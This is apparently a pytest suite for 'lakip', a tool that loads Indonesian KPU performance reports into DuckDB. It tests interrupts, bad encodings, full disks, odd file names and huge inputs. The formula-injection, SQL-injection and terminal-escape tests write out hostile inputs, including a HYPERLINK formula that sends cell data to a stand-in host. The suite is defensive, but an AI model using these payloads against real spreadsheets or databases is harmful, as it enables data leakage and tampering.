"""Issue 17, the attack run: findings stored with their report, Ctrl-C and SIGTERM, bad bytes,
a 0-row report hiding a real one, a full disk, odd names, FIFOs and devices, skips, huge inputs,
formula injection, SQL built from values, printouts with the same name."""

from __future__ import annotations

import ast
import csv
import os
import re
import resource
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import duckdb
import pytest
from attacks import group_gone  # the attack rerun's own check (tests/attacks.py)
from conftest import DOCS, JEMBER, MUARO_JAMBI, ROOT
from typer.testing import CliRunner

import store
from corpus.tools import synth
from lakip import pipeline
from lakip.cli import app
from lakip.pipeline import ingest_paths

LAKIP = [sys.executable, "-m", "lakip"]
ENV = {**os.environ, "PYTHONUNBUFFERED": "1"}
runner = CliRunner()


def _con(db: Path) -> duckdb.DuckDBPyConnection:
    return duckdb.connect(str(db), read_only=True)


def _stored(db: Path) -> dict[str, tuple[int, int]]:
    """file name -> (performance rows, findings) of every stored report."""
    con = _con(db)
    try:
        rows = con.execute(
            """SELECT r.source_path, (SELECT count(*) FROM measurements m WHERE m.report_id = r.report_id),
                      (SELECT count(*) FROM findings f WHERE f.report_id = r.report_id) FROM reports r"""
        ).fetchall()
        return {Path(p).name: (n, f) for p, n, f in rows}
    finally:
        con.close()


def _errors(db: Path) -> set[str]:
    con = _con(db)
    try:
        return {Path(p).name for (p,) in con.execute("SELECT source_path FROM ingest_errors").fetchall()}
    finally:
        con.close()


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> tuple[Path, dict[str, tuple[int, int]]]:  # type: ignore[no-untyped-def]
    """20 synthetic reports and what a clean ingest stores for each."""
    out = tmp_path_factory.mktemp("synth")
    synth.generate(out, 20)
    clean = out.parent / "clean.duckdb"
    ingest_paths([out], clean, in_process=True)
    return out, _stored(clean)


def _interruptible() -> None:
    """A terminal's Ctrl-C reaches the CLI: undo the SIG_IGN a background job inherits (`cmd &`
    without job control, nohup), which lakip rightly keeps (pipeline._signals_stop_the_batch)."""
    signal.signal(signal.SIGINT, signal.SIG_DFL)


def _start(args: list[str], env: dict[str, str] | None = None) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [*LAKIP, *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=ROOT, start_new_session=True, env=env or ENV,
        preexec_fn=_interruptible,
    )  # fmt: skip


def _after_lines(proc: subprocess.Popen[str], n: int) -> list[str]:
    seen: list[str] = []
    assert proc.stdout is not None
    for line in proc.stdout:
        seen.append(line)
        if sum(x.startswith("✓") for x in seen) >= n:
            break
    return seen


# 1. findings are atomic with their report


def test_a_report_is_never_stored_without_its_findings(tmp_path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    db = tmp_path / "t.duckdb"
    real = pipeline.reports.audit

    def dying(*a, **kw):  # type: ignore[no-untyped-def]
        raise RuntimeError("killed between the report and its findings (simulated)")

    monkeypatch.setattr(pipeline.reports, "audit", dying)
    (first,) = ingest_paths([MUARO_JAMBI], db, in_process=True)
    assert first.status == "failed"
    assert _stored(db) == {}  # nothing of it: neither the report nor its rows
    monkeypatch.setattr(pipeline.reports, "audit", real)
    (again,) = ingest_paths([MUARO_JAMBI], db, in_process=True)
    assert again.status == "added" and again.findings == {"error": 19, "warning": 19}
    assert _stored(db)["muaro_jambi_2024.txt"] == (53, 38)


def test_a_report_stored_without_its_audit_is_completed_by_the_rerun(tmp_path) -> None:  # type: ignore[no-untyped-def]
    """A database from before (report committed, findings lost): the next ingest audits it."""
    db = tmp_path / "t.duckdb"
    ingest_paths([MUARO_JAMBI], db, in_process=True)
    con = duckdb.connect(str(db))
    con.execute("DELETE FROM findings")
    con.execute("UPDATE reports SET audited_at = NULL")
    con.close()
    (r,) = ingest_paths([MUARO_JAMBI], db, in_process=True)
    assert r.status == "unchanged" and r.note == "audit completed" and r.findings == {"error": 19, "warning": 19}
    assert _stored(db)["muaro_jambi_2024.txt"] == (53, 38)


def test_kill_minus_nine_keeps_findings_and_ends_the_workers(corpus, tmp_path) -> None:  # type: ignore[no-untyped-def]
    folder, want = corpus
    db = tmp_path / "killed.duckdb"
    proc = _start(["ingest", str(folder), "--db", str(db), "--workers", "2"])
    _after_lines(proc, 3)
    os.kill(proc.pid, signal.SIGKILL)  # the parent alone: its workers must not live on
    proc.wait()
    assert group_gone(proc.pid), "workers outlived their parent"
    partial = _stored(db)
    assert 0 < len(partial) < len(want)
    for name, got in partial.items():
        assert got == want[name], f"{name}: (rows, findings) {got}, expected {want[name]}"
    rerun = subprocess.run([*LAKIP, "ingest", str(folder), "--db", str(db)], capture_output=True, text=True, cwd=ROOT)
    assert rerun.returncode == 0, rerun.stderr
    assert _stored(db) == want and _errors(db) == set()


# 2. Ctrl-C and SIGTERM stop the batch


@pytest.mark.parametrize(("how", "code"), [("group-sigint", 130), ("sigterm", 143)])
def test_interrupt_stops_at_once_with_a_summary(corpus, tmp_path, how, code) -> None:  # type: ignore[no-untyped-def]
    folder, want = corpus
    db = tmp_path / "i.duckdb"
    proc = _start(["ingest", str(folder), "--db", str(db), "--workers", "2"])
    seen = _after_lines(proc, 3)
    start = time.monotonic()
    if how == "group-sigint":
        os.killpg(proc.pid, signal.SIGINT)  # what Ctrl-C on a terminal does
    else:
        os.kill(proc.pid, signal.SIGTERM)
    out, err = proc.communicate(timeout=30)
    assert time.monotonic() - start < 10
    assert proc.returncode == code, err
    lines = (("".join(seen)) + out).strip().splitlines()
    assert " reports: " in lines[-1] and "stopped by" in err and "run the same command to resume" in err
    assert group_gone(proc.pid), "workers outlived the interrupted run"
    partial = _stored(db)
    assert len(partial) < len(want)
    for name, got in partial.items():
        assert got == want[name], name
    assert _errors(db) == set()  # nothing stored is logged as failed
    rerun = subprocess.run([*LAKIP, "ingest", str(folder), "--db", str(db)], capture_output=True, text=True, cwd=ROOT)
    assert rerun.returncode == 0 and _stored(db) == want


@pytest.mark.parametrize(("sig", "code"), [(signal.SIGTERM, 143), (signal.SIGKILL, -9)])
def test_a_worker_stuck_on_a_file_ends_with_its_parent(tmp_path, sig, code) -> None:  # type: ignore[no-untyped-def]
    """The signal goes to the parent alone (a service manager, kill -9): the worker, asleep on a
    file that never finishes, must not live on."""
    slow = tmp_path / "lambat.txt"
    slow.write_text("LAPORAN KINERJA KPU KOTA CONTOH TAHUN 2024 (SINTETIS)\n", encoding="utf-8")
    proc = _start(["ingest", str(slow), "--db", str(tmp_path / "h.duckdb")], env={**ENV, "LAKIP_TEST_HANG": str(slow)})
    time.sleep(4)
    os.kill(proc.pid, sig)
    proc.communicate(timeout=20)
    assert proc.returncode == code
    assert group_gone(proc.pid), "the worker outlived its parent"


@pytest.mark.parametrize("where", ["insert", "query after the commit"])
def test_interrupt_inside_a_duckdb_query_is_not_a_failed_file(tmp_path, monkeypatch, where) -> None:  # type: ignore[no-untyped-def]
    # as from a terminal, even where the test runner was started in the background (SIGINT ignored)
    old = signal.signal(signal.SIGINT, signal.default_int_handler)
    try:
        _interrupt_inside_a_query(tmp_path, monkeypatch, where)
    finally:
        signal.signal(signal.SIGINT, old)


def _interrupt_inside_a_query(tmp_path, monkeypatch, where) -> None:  # type: ignore[no-untyped-def]
    """DuckDB turns the exception a signal handler raises inside a query into its own `Query interrupted`
    (during a pandas scan, or any query: the attack rerun met it in the satker-year check after a commit)."""
    db = tmp_path / "q.duckdb"

    def interrupt() -> None:
        try:
            signal.raise_signal(signal.SIGINT)
        except BaseException:
            raise RuntimeError("Query interrupted") from None

    if where == "insert":
        real = store._insert

        def inserting(con, table, rows):  # type: ignore[no-untyped-def]
            if table == "claims":
                interrupt()
            real(con, table, rows)

        monkeypatch.setattr(store, "_insert", inserting)
    else:
        monkeypatch.setattr(store, "same_satker_year", lambda con, rid: interrupt())
    with pytest.raises(BaseException) as stopped:
        ingest_paths([JEMBER, MUARO_JAMBI], db, in_process=True)
    assert type(stopped.value).__name__ == "Interrupted"  # not a failed file, not a DuckDB error
    stored = _stored(db)
    assert stored == ({} if where == "insert" else {"jember_2024.txt": (73, 12)}) and _errors(db) == set()


# 3. one bad byte


def test_one_invalid_byte_is_replaced_and_noted_not_the_file_turned_latin1(tmp_path) -> None:  # type: ignore[no-untyped-def]
    data = MUARO_JAMBI.read_bytes()
    at = data.index(b"Pengukuran")
    bad = tmp_path / "satu_bita_rusak.txt"
    bad.write_bytes(data[:at] + b"\xff" + data[at:])
    clean = tmp_path / "clean.duckdb"
    ingest_paths([MUARO_JAMBI], clean, in_process=True)
    db = tmp_path / "b.duckdb"
    (r,) = ingest_paths([bad], db, in_process=True)
    line = data[:at].count(b"\n") + 1
    assert r.status == "added" and r.note is not None and f"1 invalid byte replaced (first on line {line})" in r.note
    con, ref = _con(db), _con(clean)
    try:
        assert con.execute("SELECT encoding FROM reports").fetchone()[0].startswith("utf-8")
        rows = "SELECT indicator_raw, target_raw, realisasi_raw, capaian_raw FROM measurements ORDER BY table_seq, row_seq"
        assert con.execute(rows).fetchall() == ref.execute(rows).fetchall()  # the PK row with `В` kept, nothing spurious
    finally:
        con.close()
        ref.close()


def test_a_cp1252_file_is_still_read_as_cp1252() -> None:
    from extract.textio import decode

    text, enc = decode("Laporan KPU Kabupaten Jembér — 95%\n".encode("cp1252"), "x.txt")
    assert enc == "cp1252" and "Jembér" in text


# 4. a 0-row file does not hide the real report


def test_a_report_without_rows_never_replaces_one_with_rows(tmp_path) -> None:  # type: ignore[no-untyped-def]
    db = tmp_path / "z.duckdb"
    ingest_paths([JEMBER], db, in_process=True)
    con = _con(db)
    before = con.execute("SELECT count(*) FROM comparison").fetchone()
    con.close()
    empty = tmp_path / "jember_tanpa_tabel.txt"
    empty.write_text(
        "LAPORAN KINERJA INSTANSI PEMERINTAH\nKOMISI PEMILIHAN UMUM KABUPATEN JEMBER\nTAHUN 2024\n\nTidak ada tabel di sini.\n",
        encoding="utf-8",
    )
    (r,) = ingest_paths([empty], db, in_process=True)
    assert r.satker == "KPU Kabupaten Jember" and r.year == 2024 and r.counts == {}
    assert r.note is not None and "comparisons keep" in r.note and "jember_2024.txt" in r.note
    con = _con(db)
    try:
        assert con.execute("SELECT count(*) FROM comparison").fetchone() == before
        assert con.execute("SELECT source_path FROM latest_reports").fetchone()[0] == str(JEMBER)
    finally:
        con.close()


# 5. a full disk


def _file_size_limit(limit: int) -> None:
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))


def test_a_full_disk_stops_the_batch_with_the_reason(corpus, tmp_path) -> None:  # type: ignore[no-untyped-def]
    """RLIMIT_FSIZE makes writes past 1 MB fail as a full disk would (EFBIG; ENOSPC is handled alike)."""
    folder, want = corpus
    db = tmp_path / "full.duckdb"
    run = subprocess.run(
        [*LAKIP, "ingest", str(folder), "--db", str(db), "--workers", "1"],
        capture_output=True, text=True, cwd=ROOT, env=ENV, preexec_fn=lambda: _file_size_limit(1_000_000), timeout=300,
    )  # fmt: skip
    assert run.returncode == 2, run.stdout + run.stderr
    assert "no room to write the database" in run.stderr and "free space" in run.stderr
    assert "cannot rollback" not in run.stdout + run.stderr
    assert run.stdout.count("✗") == 0  # no file blamed for the disk
    assert run.stdout.strip().splitlines()[-1].startswith(f"{run.stdout.count('✓')} reports:")
    rerun = subprocess.run([*LAKIP, "ingest", str(folder), "--db", str(db)], capture_output=True, text=True, cwd=ROOT)
    assert rerun.returncode == 0, rerun.stderr
    assert _stored(db) == want


# 6. names that are not UTF-8, or hold control characters


def test_odd_file_names_are_stored_and_printed_safely(tmp_path) -> None:  # type: ignore[no-untyped-def]
    folder = tmp_path / "nama"
    folder.mkdir()
    raw = os.fsencode(str(folder)) + b"/laporan_\xff\xfe.txt"
    with open(raw, "wb") as f:
        f.write(JEMBER.read_bytes())
    (folder / "baris\nbaru\x1b[31m.txt").write_bytes(MUARO_JAMBI.read_bytes())
    db = tmp_path / "n.duckdb"
    run = subprocess.run([*LAKIP, "ingest", str(folder), "--db", str(db)], capture_output=True, cwd=ROOT)
    out = run.stdout.decode("utf-8")
    assert run.returncode == 0, out + run.stderr.decode()
    assert "\x1b" not in out and "laporan_\\xff\\xfe.txt" in out and "baris\\nbaru\\x1b[31m.txt" in out
    assert sorted(_stored(db)) == ["baris\\nbaru\\x1b[31m.txt", "laporan_\\xff\\xfe.txt"]


# 7. FIFOs and devices


def test_a_fifo_or_a_device_is_refused_not_read(tmp_path) -> None:  # type: ignore[no-untyped-def]
    fifo = tmp_path / "pipa.pdf"
    os.mkfifo(fifo)
    db = tmp_path / "f.duckdb"
    args = [*LAKIP, "ingest", str(fifo), "/dev/zero", str(JEMBER), "--db", str(db)]
    run = subprocess.run(args, capture_output=True, text=True, cwd=ROOT, timeout=60)
    assert run.returncode == 1, run.stdout + run.stderr
    assert "✗ pipa.pdf: a FIFO, not a regular file" in run.stdout
    assert "✗ zero: a device, not a regular file" in run.stdout
    assert "jember_2024.txt: KPU Kabupaten Jember 2024" in run.stdout
    assert "2 failed" in run.stdout.splitlines()[-1]


# 8. nothing skipped silently


def _unreadable(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Permissions that refuse reading (root reads anything: then the refusal is simulated)."""
    if os.geteuid() != 0:
        path.chmod(0)
        return
    real_scandir, real_open = os.scandir, os.open

    def scandir(p=".", *a):  # type: ignore[no-untyped-def]
        if Path(os.fsdecode(p)) == path:
            raise PermissionError(13, "Permission denied", os.fsdecode(p))
        return real_scandir(p, *a)

    def open_(p, flags, *a, **kw):  # type: ignore[no-untyped-def]
        if Path(os.fsdecode(p)) == path:
            raise PermissionError(13, "Permission denied", os.fsdecode(p))
        return real_open(p, flags, *a, **kw)

    monkeypatch.setattr(os, "scandir", scandir)
    monkeypatch.setattr(os, "open", open_)


def test_every_skipped_path_is_listed_and_counted(tmp_path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    folder = tmp_path / "kiriman"
    folder.mkdir()
    shutil.copy(JEMBER, folder / "jember.txt")
    (folder / "lkj.doc").write_bytes(b"\xd0\xcf\x11\xe0 word 97")
    (folder / "putar.pdf").symlink_to(folder / "putar.pdf")  # a looping link
    os.mkfifo(folder / "pipa.txt")
    (folder / "map.pdf").mkdir()
    shutil.copy(MUARO_JAMBI, folder / "map.pdf" / "muaro.txt")  # a folder named like a file: searched
    locked = folder / "terkunci"
    locked.mkdir()
    (locked / "x.txt").write_text("tersembunyi", encoding="utf-8")
    _unreadable(locked, monkeypatch)
    secret = tmp_path / "rahasia.txt"
    shutil.copy(JEMBER, secret)
    _unreadable(secret, monkeypatch)
    db = tmp_path / "s.duckdb"
    result = runner.invoke(app, ["ingest", str(folder), str(secret), "--db", str(db)])
    out = result.output
    assert f"- {folder / 'lkj.doc'}: .doc documents are not read" in out
    assert "✗ putar.pdf: broken or looping symbolic link" in out
    assert "✗ pipa.txt: a FIFO, not a regular file" in out
    assert "✗ terkunci: cannot read the folder: Permission denied" in out
    assert "✗ rahasia.txt: Permission denied" in out  # named directly: the batch goes on without it
    assert "✓ muaro.txt: KPU Kabupaten Muaro Jambi 2024" in out and "✓ jember.txt:" in out
    last = out.strip().splitlines()[-1]
    assert last.startswith("6 reports: 1 added") or "4 failed" in last, last
    assert "4 failed" in last and last.endswith("; 1 skipped (listed above)")
    assert result.exit_code == 1
    assert _errors(db) == {"putar.pdf", "pipa.txt", "terkunci", "rahasia.txt"}


# 9. huge inputs and memory


def test_memory_cap_below_what_a_report_needs_is_refused(tmp_path) -> None:  # type: ignore[no-untyped-def]
    result = runner.invoke(app, ["ingest", str(JEMBER), "--db", str(tmp_path / "m.duckdb"), "--memory-mb", "256"])
    assert result.exit_code == 2
    assert "--memory-mb 256: too little for one report" in result.output and "at least 768" in result.output
    assert not (tmp_path / "m.duckdb").exists()


def test_a_huge_text_is_refused_before_it_reaches_the_parent(tmp_path) -> None:  # type: ignore[no-untyped-def]
    big = tmp_path / "besar.txt"
    block = JEMBER.read_bytes()
    with big.open("wb") as f:
        for _ in range(getattr(pipeline, "MAX_TEXT_MB", 16) * 1024 * 1024 // len(block) + 2):
            f.write(block)
    start = time.monotonic()
    (r,) = ingest_paths([big], tmp_path / "b.duckdb", in_process=True)
    assert r.status == "failed" and "MB of text" in (r.error or "") and "split" in (r.error or "")
    assert time.monotonic() - start < 20


def test_opencv_running_out_of_memory_is_said_in_one_line_not_as_a_bug() -> None:
    """What a 200×200-inch page made OpenCV raise (the page itself is refused by extract's scan reader)."""
    from lakip.workers import failure_reason

    class error(Exception):
        pass

    e = error(
        "OpenCV(5.0.0) /io/opencv/modules/core/src/alloc.cpp:73: error: (-4:Insufficient memory) "
        "Failed to allocate 943718400 bytes in function 'OutOfMemoryError'\n"
    )
    assert failure_reason(e, 2048) == "out of memory (over 2048 MB; raise --memory-mb or split the file)"
    odd = failure_reason(ValueError("first line\nsecond line"), 2048)
    assert "\n" not in odd and odd.endswith("(a lakip bug: report it with the file)")


def test_a_huge_page_fails_in_one_line(tmp_path) -> None:  # type: ignore[no-untyped-def]
    from corpus.tools.bad_inputs import _raw_pdf

    side = 200 * 72  # 200 inches
    image = b"<< /Type /XObject /Subtype /Image /Width 2 /Height 2 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 4 >>\nstream\n\x00\xff\xff\x00\nendstream"  # noqa: E501
    content = b"q %d 0 0 %d 0 0 cm /Im0 Do Q" % (side, side)
    pdf = _raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] /Resources << /XObject << /Im0 4 0 R >> >> /Contents 5 0 R >>"
            % (side, side),
            image,
            b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        ]
    )
    huge = tmp_path / "halaman_raksasa.pdf"
    huge.write_bytes(pdf)
    result = runner.invoke(app, ["ingest", str(huge), "--db", str(tmp_path / "h.duckdb"), "--timeout", "120"])
    (line,) = [x for x in result.output.splitlines() if x.startswith(("✗", "✓"))]
    assert "a lakip bug" not in line
    assert result.exit_code in (0, 1)


# 10. formula injection


_EVIL = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik") Persentase kegiatan koordinasi'


@pytest.fixture(scope="module")
def evil_db(tmp_path_factory) -> Path:  # type: ignore[no-untyped-def]
    """Muaro Jambi with a formula opening a mapped indicator (in the comparison) and an unmapped one (in review)."""
    d = tmp_path_factory.mktemp("evil")
    text = MUARO_JAMBI.read_text(encoding="utf-8").replace("1\tPersentase kegiatan koordinasi", "1\t" + _EVIL, 1)
    text = text.replace("Persentase kegiatan pengelolaan dan pengembangan RPP yang terlaksana", "@SUM(1+1) kegiatan RPP yang terlaksana")
    (d / "jahat.txt").write_text(text, encoding="utf-8")
    db = d / "e.duckdb"
    ingest_paths([d / "jahat.txt"], db, in_process=True)
    return db


def test_csv_export_cells_never_start_a_formula(evil_db, tmp_path) -> None:  # type: ignore[no-untyped-def]
    from reports.compare import export

    con = _con(evil_db)
    (csv_file,) = export(con, tmp_path, ("csv",))[:1]
    con.close()
    with csv_file.open(encoding="utf-8", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert any(c.startswith("'" + _EVIL) for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c.startswith("-") and not c.lstrip("-").replace(",", "").isdigit())]


def test_xlsx_export_has_no_formula_cells(evil_db, tmp_path) -> None:  # type: ignore[no-untyped-def]
    from openpyxl import load_workbook

    from reports.compare import export

    con = _con(evil_db)
    files = export(con, tmp_path, ("xlsx",))
    con.close()
    book = load_workbook(files[0])
    cells = [c for row in book.active.iter_rows() for c in row]  # type: ignore[union-attr]
    assert [c.data_type for c in cells if c.data_type == "f"] == []
    assert any(isinstance(c.value, str) and c.value.startswith(_EVIL) for c in cells)  # kept exactly, as text


def test_review_csv_neutralises_and_reads_back_the_wording(evil_db, tmp_path) -> None:  # type: ignore[no-untyped-def]
    from lakip import review

    con = _con(evil_db)
    found = review.items(con, review.catalogue())
    con.close()
    assert any(i.indicator_raw.startswith("@SUM") for i in found)
    sheet = tmp_path / "review.csv"
    review.write_csv(sheet, found)
    with sheet.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert not [r["indicator_raw"] for r in rows if r["indicator_raw"][:1] in ("=", "+", "-", "@")]
    for r in rows:
        r["decision"] = "IKU-01" if r["indicator_raw"].startswith("'@SUM") else ""
    with sheet.open("w", encoding="utf-8", newline="") as f:
        w = csv.DictWriter(f, fieldnames=review.COLUMNS)
        w.writeheader()
        w.writerows(rows)
    assert review.read_decisions(sheet) == [("IKU-01", "@SUM(1+1) kegiatan RPP yang terlaksana")]


# 11. SQL gets values only as parameters


def test_compare_out_with_quotes_and_sql_in_its_name(tmp_path) -> None:  # type: ignore[no-untyped-def]
    db = tmp_path / "c.duckdb"
    ingest_paths([DOCS], db, in_process=True)
    out = tmp_path / "o'; CREATE TABLE pwned AS SELECT 1; --"
    result = runner.invoke(app, ["compare", "--db", str(db), "--out", str(out)])
    assert result.exit_code == 0, result.output
    con = _con(db)
    try:
        assert con.execute("SELECT count(*) FROM read_parquet(?)", [str(out / "comparison.parquet")]).fetchone() == (22,)
        tables = {t for (t,) in con.execute("SELECT table_name FROM information_schema.tables").fetchall()}
        assert "pwned" not in tables
    finally:
        con.close()


_SQL = ("SELECT ", "INSERT ", "DELETE ", "UPDATE ", "COPY ", "ALTER ", "CREATE ", "DROP ", " FROM ", " WHERE ")


def test_no_f_string_sql_interpolates_anything_but_identifiers_and_placeholders() -> None:
    """SQL text may be built only from schema identifiers (`ident`) and `?` placeholders (`placeholders`)."""
    offenders = []
    for package in ("extract", "normalize", "store", "reports", "lakip"):
        for path in (ROOT / package).rglob("*.py"):
            if path == ROOT / "store" / "schema.py":  # the DDL, built from the schema's own constant definitions
                continue
            source = path.read_text(encoding="utf-8")
            for node in ast.walk(ast.parse(source)):
                if not isinstance(node, ast.JoinedStr):
                    continue
                text = "".join(v.value for v in node.values if isinstance(v, ast.Constant) and isinstance(v.value, str))
                if not any(k in text for k in _SQL):
                    continue
                for v in node.values:
                    if isinstance(v, ast.FormattedValue):
                        expr = ast.get_source_segment(source, v.value) or ""
                        if not re.search(r"\b(ident|placeholders)\b", expr):
                            offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}: {{{expr}}}")
    assert offenders == []


# 12. printouts of files with the same name


def test_printouts_of_files_with_the_same_name_do_not_overwrite_each_other(tmp_path) -> None:  # type: ignore[no-untyped-def]
    sources = [JEMBER, MUARO_JAMBI, JEMBER]
    for n, src in enumerate(sources):
        (tmp_path / f"kab{n}").mkdir()
        text = src.read_text(encoding="utf-8") + ("\nCatatan tambahan.\n" if n == 2 else "")
        (tmp_path / f"kab{n}" / "laporan.txt").write_text(text, encoding="utf-8")
    db = tmp_path / "p.duckdb"
    ingest_paths([tmp_path / f"kab{n}" for n in range(3)], db, in_process=True)
    out = tmp_path / "cetak"
    result = runner.invoke(app, ["audit", "--db", str(db), "--format", "html", "--out", str(out)])
    assert result.exit_code == 1, result.output  # Muaro Jambi has errors
    printed = sorted(p.name for p in out.iterdir())
    assert len(printed) == 3 and len(set(printed)) == 3 and all(p.startswith("laporan.") for p in printed), printed
